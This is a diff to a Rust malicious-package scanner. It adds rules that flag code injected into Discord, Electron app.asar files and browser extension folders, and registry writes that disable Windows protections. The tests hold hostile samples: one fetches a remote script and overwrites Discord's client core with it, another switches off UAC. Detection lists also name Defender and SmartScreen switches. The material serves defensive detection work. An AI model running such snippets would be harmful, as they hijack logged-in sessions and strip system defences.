@@ -57,6 +57,59 @@ const SYSTEM_HIJACK: &[(&str, &str)] = &[
     ("/etc/sudoers", "the sudo rules"),
 ];
 
+/// Another application's own code, replaced or added to: Discord's client core (token
+/// grabbers inject into it so every login is theirs), an Electron app's `app.asar` (wallet
+/// apps swapped for look-alikes that send the seed), a browser profile's extension folder
+/// (a side-loaded extension reading every page). Nobody's package writes there.
+const APP_CODE_TARGETS: &[(&str, &str)] = &[
+    (
+        "discord_desktop_core",
+        "Discord's client code, which runs with the user's logged-in session",
+    ),
+    (
+        "app.asar",
+        "an Electron application's code archive (wallet apps are swapped this way)",
+    ),
+    (
+        "/default/extensions/",
+        "a browser profile's extension folder, where a side-loaded extension reads every page",
+    ),
+];
+
+fn app_code_target(text: &str) -> Option<&'static str> {
+    let normalized = text.to_ascii_lowercase().replace('\\', "/");
+    APP_CODE_TARGETS
+        .iter()
+        .find(|(needle, _)| normalized.contains(needle))
+        .map(|(_, what)| *what)
+}
+
+/// Windows values that switch a protection off: UAC (`EnableLUA`, the admin consent prompt),
+/// Defender's real-time and tamper protection, SmartScreen, the Task Manager and registry
+/// editor users would remove malware with.
+fn disables_protection(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
+    if !matches!(qualname, "winreg.SetValueEx" | "_winreg.SetValueEx") {
+        return None;
+    }
+    let name = checker.fold(call.arguments.args.get(1)?)?.as_text()?;
+    matches!(
+        name.to_ascii_lowercase().as_str(),
+        "enablelua"
+            | "consentpromptbehavioradmin"
+            | "promptonsecuredesktop"
+            | "disableantispyware"
+            | "disablerealtimemonitoring"
+            | "disablebehaviormonitoring"
+            | "disableioavprotection"
+            | "tamperprotection"
+            | "enablesmartscreen"
+            | "smartscreenenabled"
+            | "disabletaskmgr"
+            | "disableregistrytools"
+    )
+    .then_some(name)
+}
+
 /// Windows Internet Settings values that route the user's web traffic through a proxy.
 fn sets_web_proxy(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
     if !matches!(qualname, "winreg.SetValueEx" | "_winreg.SetValueEx") {
@@ -508,6 +561,23 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         check_authorized_keys(checker, call, context);
         check_hosts_file(checker, call, context);
     }
+    if let Some(value) = disables_protection(checker, call, qualname) {
+        checker.report(
+            &RULE,
+            call.range(),
+            format!(
+                "{qualname} sets `{value}`, switching off a Windows protection {}",
+                context.phrase()
+            ),
+            match context {
+                ExecContext::Install | ExecContext::Import => 0.75,
+                ExecContext::Runtime => 0.3,
+                ExecContext::TestOrDocs => 0.05,
+            },
+            vec!["defense-evasion", "system-hijack"],
+        );
+        return;
+    }
     if let Some(value) = sets_web_proxy(checker, call, qualname) {
         checker.report(
             &RULE,
@@ -580,6 +650,26 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             );
             return;
         }
+        if let Some(what) = app_code_target(&text) {
+            checker.report(
+                &RULE,
+                call.range(),
+                format!(
+                    "{qualname} writes `{}`, {what} {}",
+                    crate::text::shorten(&text, 80),
+                    context.phrase()
+                ),
+                // Packaging and browser-automation tools build such files in their own
+                // output folders when asked.
+                match context {
+                    ExecContext::Install | ExecContext::Import => 0.75,
+                    ExecContext::Runtime => 0.2,
+                    ExecContext::TestOrDocs => 0.05,
+                },
+                vec!["persistence", "app-injection"],
+            );
+            return;
+        }
         if let Some(what) = system_hijack_target(&text) {
             checker.report(
                 &RULE,
@@ -620,6 +710,18 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
 
 #[cfg(test)]
 mod shortcut_tests {
+    #[test]
+    fn other_applications_code_and_protection_switches() {
+        let discord = "import os, glob, urllib.request\np = urllib.request.urlopen('https://example.invalid/i.js').read().decode()\nfor core in glob.glob(os.path.join(os.environ['LOCALAPPDATA'], 'Discord', 'app-*', 'modules', 'discord_desktop_core-*', 'discord_desktop_core', 'index.js')):\n    open(core, 'w').write(p)\n";
+        assert!(max_severity("p/pkg/__init__.py", discord, "WH150") >= 0.75);
+        let builder = "import os, shutil\ndef package(out):\n    shutil.move('app.zip', os.path.join(out, 'resources', 'app.asar'))\n";
+        assert!(max_severity("p/pkg/__init__.py", builder, "WH150") <= 0.2);
+        let uac = "import winreg\nk = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'EnableLUA', 0, winreg.REG_DWORD, 0)\n";
+        assert!(max_severity("p/pkg/__init__.py", uac, "WH150") >= 0.75);
+        let reader = "import winreg\nk = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Policies')\nvalue, _ = winreg.QueryValueEx(k, 'EnableLUA')\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", reader, "WH150"), 0.0);
+    }
+
     use crate::rules::testing::max_severity;
 
     #[test]
